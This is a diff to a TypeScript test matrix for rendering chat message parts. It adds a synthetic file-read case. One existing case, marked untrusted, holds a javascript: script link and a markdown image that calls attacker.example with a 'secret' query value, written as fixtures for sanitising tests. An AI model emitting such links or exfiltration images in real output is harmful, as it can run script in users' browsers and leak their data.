@@ -56,6 +56,19 @@ const matrix: PartCase<TextPartData>[] = [
   { name: 'streaming: unclosed fence and bold mid-token', part: text('p4', 'Here is the fix, **very** import\n\n```ts\nexport function fetchUser(id: string) {\n  return fe'), streaming: true },
   { name: 'streaming: half-typed table', part: text('p5', '| File | Lines |\n|--'), streaming: true },
   { name: 'synthetic (added by the agent)', part: text('p6', 'Summary of the conversation so far.', { synthetic: true }) },
+  {
+    name: 'synthetic: an attached file read in for the model, folded',
+    part: text(
+      'p6b',
+      [
+        'Called the Read tool with the following input: {"filePath":"src/api.ts"}',
+        '<file>',
+        ...Array.from({ length: 40 }, (_, i) => `${String(i + 1).padStart(5, '0')}| export const value${i} = ${i}`),
+        '</file>',
+      ].join('\n'),
+      { synthetic: true },
+    ),
+  },
   { name: 'ignored', part: text('p7', 'This message was not sent to the model.', { ignored: true }) },
   { name: 'untrusted: raw HTML, script link, remote image', part: text('p8', 'Raw <b>html</b> stays text. [A script link](javascript:alert(1)) ![tracker](https://attacker.example/p.png?d=secret)') },
 ]
